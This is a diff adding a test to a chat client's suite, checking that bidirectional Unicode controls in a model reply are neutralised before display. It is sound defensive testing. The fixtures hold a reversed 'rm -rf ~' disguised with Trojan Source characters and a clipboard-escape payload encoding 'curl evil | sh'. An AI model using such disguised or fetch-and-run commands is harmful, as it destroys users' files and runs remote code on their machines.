@@ -91,6 +91,18 @@ def test_a_models_reply_reaches_the_terminal_without_its_control_sequences(
     assert "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" in (tmp_path / "chat.msg.md").read_text()
 
 
+def test_a_reply_cannot_reorder_what_the_terminal_shows_with_bidirectional_controls(
+    tmp_path: Path, openai_server: OpenAIServer, env: dict[str, str]
+) -> None:
+    # Trojan Source: an override shows "rm -rf ~" as something else; an isolate hides order
+    openai_server.script("Run: echo ok \u202e~ fr- mr\u202c and \u2066done\u2069.")
+    code, shown = in_terminal("chat", "chat", "-m", "What should I run?", cwd=tmp_path, env=env)
+    assert code == 0, shown
+    assert not [c for c in "\u202e\u202c\u2066\u2069" if c in shown], repr(shown)
+    assert "<U+202E>~ fr- mr<U+202C>" in shown and "<U+2066>done<U+2069>" in shown
+    assert "\u202e" in (tmp_path / "chat.msg.md").read_text()  # the file keeps it exactly
+
+
 def test_a_received_files_titles_reach_the_terminal_without_their_control_sequences(
     tmp_path: Path, env: dict[str, str]
 ) -> None:
